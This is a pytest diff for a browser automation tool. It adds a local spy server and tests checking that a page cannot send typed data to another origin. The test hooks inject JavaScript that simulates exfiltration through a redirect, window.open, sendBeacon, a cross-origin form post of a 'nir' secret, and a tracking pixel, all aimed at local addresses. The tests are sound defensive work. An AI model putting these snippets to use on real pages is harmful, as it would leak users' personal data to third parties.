@@ -309,10 +309,47 @@ def test_an_absolute_goto_follows_the_site_of_the_run(play, replica) -> None:  #
     assert played.result.final_url == replica.url + "/enrolement/cloture/accueil"
 
 
-def test_leaving_the_site_stops_before_anything_is_typed(play, replica) -> None:  # type: ignore[no-untyped-def]
+@pytest.fixture
+def elsewhere() -> Any:
+    """Another site, on this machine: it records every request that reaches it. One on
+    another local address, one on the replica's own address but another port."""
+    import http.server
+    import threading
+
+    class Spy(http.server.ThreadingHTTPServer):
+        hits: list[str]
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def _hit(self) -> None:
+            self.server.hits.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(b"<h1>Ailleurs</h1>")
+
+        do_GET = do_POST = _hit
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    spies = []
+    for host in ("127.0.0.2", "127.0.0.1"):
+        spy = Spy((host, 0), Handler)
+        spy.hits = []
+        threading.Thread(target=spy.serve_forever, daemon=True).start()
+        spies.append(spy)
+    yield [(f"http://{spy.server_address[0]}:{spy.server_address[1]}", spy.hits) for spy in spies]
+    for spy in spies:
+        spy.shutdown()
+        spy.server_close()
+
+
+def test_leaving_the_site_stops_before_anything_is_typed(play, replica, elsewhere) -> None:  # type: ignore[no-untyped-def]
+    (other, hits), _ = elsewhere
+
     def leave_at_fill(runner: Any, number: int, say: str) -> None:
         if number == 3:  # just before the code is typed, the page sends the browser away
-            runner.page.evaluate("location.href = 'http://127.0.0.2:9/collecte'")
+            runner.page.evaluate(f"location.href = '{other}/collecte'")
             runner.page.wait_for_timeout(300)
 
     played = play(opening(), code_only(), keep_open=True, hook=leave_at_fill)
@@ -325,19 +362,50 @@ def test_leaving_the_site_stops_before_anything_is_typed(play, replica) -> None:
     # The navigation was blocked (the browser never reached the other host) and the
     # code was not typed: the step that would type it was never played.
     assert played.runner.guard.violation == "127.0.0.2"
+    assert hits == []
     assert page is not None and not page.url.startswith("http://127.0.0.2")
     assert_nothing_recorded(replica)
 
 
-def test_resources_elsewhere_are_blocked_and_noted(play, replica) -> None:  # type: ignore[no-untyped-def]
+@pytest.mark.parametrize("which", [0, 1], ids=["other-address", "same-address-other-port"])
+def test_nothing_typed_reaches_another_site(play, replica, elsewhere, which) -> None:  # type: ignore[no-untyped-def]
+    other, hits = elsewhere[which]
+
+    def post_elsewhere(runner: Any, number: int, say: str) -> None:
+        if number == 3:  # the page posts a form elsewhere, in a new tab too
+            runner.page.evaluate(
+                """(url) => {
+                  window.open(url + '/onglet');
+                  navigator.sendBeacon(url + '/balise', 'donnees');
+                  const form = document.createElement('form');
+                  form.method = 'post';
+                  form.action = url + '/collecte';
+                  form.innerHTML = '<input name="nir" value="secret">';
+                  document.body.append(form);
+                  form.submit();
+                }""",
+                other,
+            )
+            runner.page.wait_for_timeout(500)
+
+    played = play(opening(), code_only(), hook=post_elsewhere, screenshots=False)
+    assert isinstance(played.result.error, ForeignOrigin), played.result.error
+    assert hits == []  # nothing ever reached the other site, not even a new tab
+    assert_nothing_recorded(replica)
+
+
+def test_resources_elsewhere_are_blocked_and_noted(play, replica, elsewhere) -> None:  # type: ignore[no-untyped-def]
+    (other, hits), _ = elsewhere
+
     def pixel(runner: Any, number: int, say: str) -> None:
         if number == 2:  # a tracking pixel elsewhere: blocked, noted, not a reason to stop
-            runner.page.evaluate("new Image().src = 'http://127.0.0.2:9/pixel.gif'")
+            runner.page.evaluate(f"new Image().src = '{other}/pixel.gif'")
             runner.page.wait_for_timeout(200)
 
     played = play(opening(), code_only(), hook=pixel, screenshots=False)
     assert played.result.ok, played.result.error
     assert any("127.0.0.2" in message for message in played.ui.infos)
+    assert hits == []
 
 
 def test_corrupt_pdf_is_kept_apart(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
